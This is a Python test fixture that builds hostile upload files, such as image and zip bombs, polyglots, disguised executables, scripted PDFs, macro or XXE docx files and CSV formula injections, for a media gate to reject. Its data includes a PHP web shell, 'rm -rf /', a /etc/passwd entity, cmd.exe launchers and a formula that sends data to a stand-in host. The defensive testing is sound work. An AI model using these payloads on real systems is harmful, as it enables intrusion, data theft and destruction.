"""Hostile files of every family that the gate must turn away, each with the codes that may be given for it."""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from tests.media import files
from wartapraja.media.gate.verdicts import Kind

PICTURE, PAPER, VIDEO, CAPTIONS = Kind.PICTURE, Kind.PAPER, Kind.VIDEO, Kind.CAPTIONS
Attack = tuple[str, str, Kind, bytes, set[str]]
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def chunk(name: bytes, content: bytes) -> bytes:
    """A PNG chunk with its right checksum."""
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


def png(width: int = 8, height: int = 8, *extra: bytes, after: bytes = b"") -> bytes:
    """A PNG that declares any size, with extra chunks and bytes after its end."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = zlib.compress(b"".join(b"\x00" + b"\x7f" * (8 * 3) for _ in range(8)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + b"".join(extra)
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
        + after
    )


def segment(marker: int, content: bytes) -> bytes:
    """A JPEG segment."""
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def zipped(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP with these parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def docx(parts: dict[str, bytes] | None = None) -> bytes:
    """The smallest docx, with parts added or replaced."""
    smallest = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/_rels/document.xml.rels": b"<Relationships/>",
    }
    return zipped(smallest | (parts or {}))


def pdf(inside: bytes, *, stream: bytes = b"", dictionary: bytes = b"") -> bytes:
    """The smallest PDF with something in its catalogue and perhaps one stream."""
    body = b"%PDF-1.7\n1 0 obj << /Type /Catalog " + inside + b" >> endobj\n"
    if stream:
        body += (
            b"2 0 obj << /Length %d %s >> stream\n" % (len(stream), dictionary)
            + stream
            + b"\nendstream endobj\n"
        )
    return body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pictures() -> Iterator[Attack]:
    """Pictures that are bombs, broken or something else."""
    jpeg, whole = files.picture("JPEG"), files.picture("PNG")
    yield "40,000 x 40,000 PNG", "besar.png", PICTURE, png(40_000, 40_000), {"too_many_pixels"}
    wide = jpeg.replace(struct.pack(">HH", 48, 64), struct.pack(">HH", 40_000, 40_000), 1)
    yield "40,000 x 40,000 JPEG", "besar.jpg", PICTURE, wide, {"too_many_pixels"}
    gif = bytearray(files.picture("GIF"))
    gif[6:10] = struct.pack("<HH", 40_000, 40_000)
    yield "40,000 x 40,000 GIF", "besar.gif", PICTURE, bytes(gif), {"too_many_pixels"}
    yield "thin giant PNG", "tipis.png", PICTURE, png(60_000, 8), {"too_many_pixels"}
    yield (
        "truncated JPEG",
        "potong.jpg",
        PICTURE,
        files.picture(size=(640, 480))[:-4000],
        {"truncated"},
    )
    yield "JPEG cut in its header", "potong.jpg", PICTURE, jpeg[:40], {"truncated"}
    yield "truncated PNG", "potong.png", PICTURE, whole[:-200], {"truncated"}
    yield "truncated WebP", "potong.webp", PICTURE, files.picture("WEBP")[:-20], {"truncated"}
    yield (
        "truncated AVIF",
        "potong.avif",
        PICTURE,
        files.picture("AVIF")[:-60],
        {"truncated", "broken"},
    )
    bomb = zlib.compress(b"A" * 30_000_000, 9)
    yield (
        "PNG zTXt bomb",
        "teks.png",
        PICTURE,
        png(8, 8, chunk(b"zTXt", b"Comment\x00\x00" + bomb)),
        {"metadata_bomb"},
    )
    yield (
        "PNG iTXt bomb",
        "teks.png",
        PICTURE,
        png(8, 8, chunk(b"iTXt", b"K\x00\x01\x00\x00\x00" + bomb)),
        {"metadata_bomb"},
    )
    yield (
        "PNG profile bomb",
        "profil.png",
        PICTURE,
        png(8, 8, chunk(b"iCCP", b"p\x00\x00" + bomb)),
        {"metadata_bomb"},
    )
    many = chunk(b"tEXt", b"k\x00" + b"v" * 100_000)
    yield "PNG with many texts", "teks.png", PICTURE, png(8, 8, *[many] * 100), {"metadata_bomb"}
    heavy = jpeg[:2] + segment(0xE1, b"Exif\x00\x00" + b"\x00" * 60_000) * 200 + jpeg[2:]
    yield "JPEG with 12 MB of EXIF", "exif.jpg", PICTURE, heavy, {"metadata_bomb"}
    yield (
        "PNG with a wrong checksum",
        "rusak.png",
        PICTURE,
        whole.replace(whole[40:44], b"abcd", 1),
        {"broken"},
    )
    yield (
        "PNG without picture",
        "kosong.png",
        PICTURE,
        whole[:33] + chunk(b"IEND", b""),
        {"truncated"},
    )
    yield (
        "APNG with a flood of frames",
        "banyak.png",
        PICTURE,
        png(8, 8, chunk(b"acTL", struct.pack(">II", 9_000_000, 0))),
        {"too_many_frames"},
    )
    one = files.picture("GIF")
    start = 13 + 3 * 2 ** ((one[10] & 7) + 1)
    flood = one[:start] + one[start:-1] * 400 + b";"
    yield "GIF with 400 frames", "banyak.gif", PICTURE, flood, {"too_many_frames"}
    yield (
        "JPEG and ZIP in one",
        "ganda.jpg",
        PICTURE,
        jpeg + zipped({"a.class": b"x"}),
        {"disguise"},
    )
    yield "PNG and ZIP in one", "ganda.png", PICTURE, png(after=zipped({"a": b"x"})), {"disguise"}
    yield (
        "GIF and ZIP in one",
        "ganda.gif",
        PICTURE,
        files.picture("GIF") + zipped({"a": b"x"}),
        {"disguise"},
    )
    yield (
        "JPEG and PDF in one",
        "ganda.jpg",
        PICTURE,
        jpeg[:2] + segment(0xFE, b"%PDF-1.4 ") + jpeg[2:],
        {"disguise"},
    )
    yield (
        "PHP in a JPEG comment",
        "kulit.jpg",
        PICTURE,
        jpeg[:2] + segment(0xFE, b"<?php system($_GET[0]); ?>") + jpeg[2:],
        {"disguise"},
    )
    yield (
        "script in a PNG text",
        "skrip.png",
        PICTURE,
        png(8, 8, chunk(b"tEXt", b"k\x00<script>alert(1)</script>")),
        {"disguise"},
    )
    yield "page after a GIF", "laman.gif", PICTURE, files.picture("GIF") + HTML, {"disguise"}
    yield (
        "GIF that is a script",
        "skrip.gif",
        PICTURE,
        b"GIF89a/*" + b"\x00" * 4 + b"*/=1;alert(1)//",
        {"broken", "truncated"},
    )
    yield "unknown bytes after a JPEG", "ekor.jpg", PICTURE, jpeg + b"rahasia" * 100, {"disguise"}
    yield (
        "WebP with a tail",
        "ekor.webp",
        PICTURE,
        files.picture("WEBP") + b"rahasia!" * 100,
        {"disguise"},
    )


def disguises() -> Iterator[Attack]:
    """Types that never pass, under their own name and under another."""
    yield "SVG", "gambar.svg", PICTURE, SVG, {"forbidden"}
    yield "SVG as PNG", "gambar.png", PICTURE, SVG, {"forbidden"}
    yield (
        "SVG after a declaration",
        "gambar.png",
        PICTURE,
        b'<?xml version="1.0"?>' + SVG,
        {"forbidden"},
    )
    yield "SVG in UTF-16", "gambar.jpg", PICTURE, SVG.decode().encode("utf-16"), {"forbidden"}
    for name, start in [
        ("EPS", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
        ("PSD", b"8BPS\x00\x01"),
        ("TIFF", b"II*\x00\x08"),
        ("BMP", b"BM\x00\x00"),
    ]:
        yield f"{name} as JPEG", "gambar.jpg", PICTURE, start + b"\x00" * 200, {"forbidden"}
        yield name, f"gambar.{name.lower()}", PICTURE, start + b"\x00" * 200, {"forbidden"}
    yield "ICO", "ikon.ico", PICTURE, b"\x00\x00\x01\x00\x01" + b"\x00" * 90, {"forbidden"}
    yield "HEIC", "foto.heic", PICTURE, b"\x00\x00\x00\x18ftypheic" + b"\x00" * 90, {"forbidden"}
    yield "page as JPEG", "foto.jpg", PICTURE, HTML, {"forbidden"}
    yield "page as text", "catatan.txt", PAPER, HTML, {"forbidden"}
    yield "page inside a text", "catatan.txt", PAPER, b"Halo.\n" * 2000 + HTML, {"disguise"}
    yield "PHP as text", "catatan.txt", PAPER, b"<?php system('id');", {"forbidden"}
    yield "PHP", "kulit.php", PICTURE, b"<?php system('id');", {"forbidden"}
    yield "PHP with a picture's start", "kulit.php", PICTURE, files.picture(), {"forbidden"}
    yield "Windows program", "pasang.exe", PAPER, b"MZ" + b"\x90" * 300, {"forbidden"}
    yield "Windows program as PDF", "nota.pdf", PAPER, b"MZ" + b"\x90" * 300, {"forbidden"}
    yield "Linux program as picture", "foto.png", PICTURE, b"\x7fELF" + b"\x00" * 300, {"forbidden"}
    yield "shell script as text", "catatan.txt", PAPER, b"#!/bin/sh\nrm -rf /\n", {"forbidden"}
    yield "web archive", "nota.mht", PAPER, b"MIME-Version: 1.0\n", {"forbidden"}
    yield (
        "old Word file",
        "nota.doc",
        PAPER,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        {"forbidden"},
    )
    yield (
        "old Word file as docx",
        "nota.docx",
        PAPER,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        {"forbidden"},
    )
    yield "RTF as docx", "nota.docx", PAPER, b"{\\rtf1 halo}", {"forbidden"}
    yield "Flash", "film.swf", VIDEO, b"FWS\x09" + b"\x00" * 90, {"forbidden"}
    yield "PNG named JPEG", "foto.jpg", PICTURE, files.picture("PNG"), {"mismatch"}
    yield "JPEG named PNG", "foto.png", PICTURE, files.picture(), {"mismatch"}
    yield "JPEG named PDF", "nota.pdf", PAPER, files.picture(), {"mismatch"}
    yield (
        "WAV named WebP",
        "foto.webp",
        PICTURE,
        b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 90,
        {"mismatch"},
    )
    yield "noise named JPEG", "foto.jpg", PICTURE, bytes(range(256)) * 9, {"mismatch"}
    yield "paper as picture", "nota.pdf", PICTURE, files.paper_pdf(), {"not_allowed"}
    yield "no ending", "foto", PICTURE, files.picture(), {"not_allowed"}
    yield "empty", "foto.jpg", PICTURE, b"", {"empty"}
    yield (
        "hidden ending by direction override",
        "foto\u202egpj.exe",
        PICTURE,
        b"MZ" + b"\x90" * 99,
        {"forbidden"},
    )


def papers() -> Iterator[Attack]:
    """Papers that act, unpack without end, or fetch something."""
    yield (
        "PDF with script",
        "nota.pdf",
        PAPER,
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        {"acting_pdf"},
    )
    yield (
        "PDF with hidden script name",
        "nota.pdf",
        PAPER,
        pdf(b"/AA << /O << /S /J#61vaScript >> >>"),
        {"acting_pdf"},
    )
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (x) >>")
    yield (
        "PDF with packed script",
        "nota.pdf",
        PAPER,
        pdf(b"", stream=packed, dictionary=b"/Type /ObjStm /Filter /FlateDecode"),
        {"acting_pdf"},
    )
    twice = zlib.compress(packed)
    yield (
        "PDF packed twice",
        "nota.pdf",
        PAPER,
        pdf(b"", stream=twice, dictionary=b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]"),
        {"acting_pdf"},
    )
    yield (
        "PDF with file inside",
        "nota.pdf",
        PAPER,
        pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
        {"acting_pdf"},
    )
    yield (
        "PDF that starts a program",
        "nota.pdf",
        PAPER,
        pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        {"acting_pdf"},
    )
    yield (
        "PDF with a form of XFA",
        "nota.pdf",
        PAPER,
        pdf(b"/AcroForm << /XFA 3 0 R >>"),
        {"acting_pdf"},
    )
    yield "locked PDF", "nota.pdf", PAPER, pdf(b"/Encrypt 9 0 R"), {"locked"}
    flood = zlib.compress(b"\x00" * 60_000_000, 9)
    yield (
        "PDF bomb",
        "nota.pdf",
        PAPER,
        pdf(b"", stream=flood, dictionary=b"/Filter /FlateDecode"),
        {"bomb"},
    )
    yield "PDF without end", "nota.pdf", PAPER, files.paper_pdf()[:-200], {"truncated"}
    yield "page before a PDF", "nota.pdf", PAPER, HTML + files.paper_pdf(), {"forbidden"}
    yield (
        "PDF and ZIP in one",
        "nota.pdf",
        PAPER,
        pdf(b"")[:-6] + zipped({"a": b"x"}) + b"\n%%EOF\n",
        {"disguise"},
    )
    zeros = {"word/media/a.bmp": b"\x00" * 50_000_000}
    yield "docx bomb by ratio", "nota.docx", PAPER, docx(parts=zeros), {"bomb"}
    lies = bytearray(docx(parts={"word/x.xml": b"\x00" * 3_000_000}))
    at = lies.rfind(b"word/x.xml") - 46
    lies[at + 24 : at + 28] = struct.pack("<I", 900_000)
    yield "docx that lies about its size", "nota.docx", PAPER, bytes(lies), {"broken", "bomb"}
    yield (
        "docx with 6,000 parts",
        "nota.docx",
        PAPER,
        docx(parts={f"word/{n}.xml": b"<a/>" for n in range(6000)}),
        {"bomb"},
    )
    yield (
        "docx with entities",
        "nota.docx",
        PAPER,
        docx(
            parts={
                "word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
            }
        ),
        {"entities"},
    )
    wide = '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16")
    yield (
        "docx with entities in UTF-16",
        "nota.docx",
        PAPER,
        docx(parts={"word/document.xml": wide}),
        {"entities"},
    )
    yield (
        "docx with macros",
        "nota.docx",
        PAPER,
        docx(parts={"word/vbaProject.bin": b"\xd0\xcf"}),
        {"macros"},
    )
    yield (
        "docm named docx",
        "nota.docx",
        PAPER,
        docx(
            parts={
                "[Content_Types].xml": b"<Types x='application/vnd.ms-word.document.macroEnabled.main+xml'/>"
            }
        ),
        {"macros"},
    )
    remote = b'<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://a.example/t.dotm" TargetMode="External"/></Relationships>'
    yield (
        "docx with a remote template",
        "nota.docx",
        PAPER,
        docx(parts={"word/_rels/settings.xml.rels": remote}),
        {"remote_part"},
    )
    yield (
        "docx with a tracking picture",
        "nota.docx",
        PAPER,
        docx(parts={"word/_rels/document.xml.rels": remote.replace(b"attachedTemplate", b"image")}),
        {"remote_part"},
    )
    yield (
        "docx with DDE",
        "nota.docx",
        PAPER,
        docx(
            parts={
                "word/document.xml": b"<w:document><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:document>"
            }
        ),
        {"macros"},
    )
    yield (
        "docx with a program inside",
        "nota.docx",
        PAPER,
        docx(parts={"word/embeddings/oleObject1.bin": b"MZ"}),
        {"stowaway"},
    )
    yield (
        "docx with escaping part",
        "nota.docx",
        PAPER,
        docx(parts={"../../etc/cron.d/x": b"x"}),
        {"escaping_name"},
    )
    yield "any ZIP as docx", "nota.docx", PAPER, zipped({"a.xml": b"<a/>"}), {"mismatch"}
    yield "docx named odt", "nota.odt", PAPER, files.paper_docx(), {"mismatch"}
    yield (
        "docx after other bytes",
        "nota.docx",
        PAPER,
        b"PK\x03\x04" + b"x" * 30 + docx(),
        {"broken", "disguise"},
    )
    yield "cut docx", "nota.docx", PAPER, files.paper_docx()[:-300], {"broken"}
    locked = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.find(mark) + offset] |= 1
    yield "locked docx", "nota.docx", PAPER, bytes(locked), {"locked"}
    yield (
        "odt with Basic",
        "nota.odt",
        PAPER,
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<a/>",
                "Basic/script-lb.xml": b"<a/>",
            }
        ),
        {"macros"},
    )
    yield (
        "CSV that starts a program",
        "daftar.csv",
        PAPER,
        b"a,b\n1,=cmd|' /C calc'!A0\n",
        {"formula"},
    )
    yield (
        "CSV that sends data",
        "daftar.csv",
        PAPER,
        b'a;b\n1;"=HYPERLINK(""http://a.example/""&A1)"\n',
        {"formula"},
    )
    yield "noise as text", "catatan.txt", PAPER, b"\x00\x01\x02" * 50, {"mismatch"}
    yield "bell in a text", "catatan.txt", PAPER, b"halo " * 2000 + b"\x07", {"not_text"}


def films() -> Iterator[Attack]:
    """Videos that are none, and captions that would not show."""
    yield "text named mp4", "liputan.mp4", VIDEO, b"Ini bukan video.\n" * 20, {"mismatch"}
    yield (
        "start of an MP4 and then noise",
        "liputan.mp4",
        VIDEO,
        b"\x00\x00\x00\x18ftypisom" + b"\x00" * 12 + bytes(range(256)) * 20,
        {"broken", "truncated", "no_video"},
    )
    empty = b"\x00\x00\x00\x14ftypisom\x00\x00\x02\x00isom" + struct.pack(">I", 8) + b"moov"
    yield "MP4 without a track", "liputan.mp4", VIDEO, empty, {"no_video"}
    yield (
        "Matroska start and noise",
        "liputan.mkv",
        VIDEO,
        b"\x1aE\xdf\xa3" + bytes(range(256)) * 20,
        {"no_video"},
    )
    yield (
        "playlist named mp4",
        "liputan.mp4",
        VIDEO,
        b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        {"mismatch"},
    )
    yield "picture named mp4", "liputan.mp4", VIDEO, files.picture(), {"mismatch"}
    yield "AVIF named mp4", "liputan.mp4", VIDEO, files.picture("AVIF"), {"mismatch"}
    cue = b"WEBVTT\n\n00:00:02.000 --> 00:00:01.000\nHalo\n"
    yield "caption that ends first", "teks.vtt", CAPTIONS, cue, {"captions"}
    late = b"WEBVTT\n\n00:05.000 --> 00:06.000\nB\n\n00:01.000 --> 00:02.000\nA\n"
    yield "captions out of order", "teks.vtt", CAPTIONS, late, {"captions"}
    yield (
        "captions without header",
        "teks.vtt",
        CAPTIONS,
        b"1\n00:00:01,000 --> 00:00:02,000\nHalo\n",
        {"captions"},
    )
    tall = b"WEBVTT\n\n00:01.000 --> 00:02.000\nA\nB\nC\n"
    yield "caption of three lines", "teks.vtt", CAPTIONS, tall, {"captions"}
    yield (
        "script in captions",
        "teks.vtt",
        CAPTIONS,
        b"WEBVTT\n\n00:01.000 --> 00:02.000\n<script>alert(1)</script>\n",
        {"disguise"},
    )


def every() -> list[Attack]:
    """All of them."""
    return [*pictures(), *disguises(), *papers(), *films()]
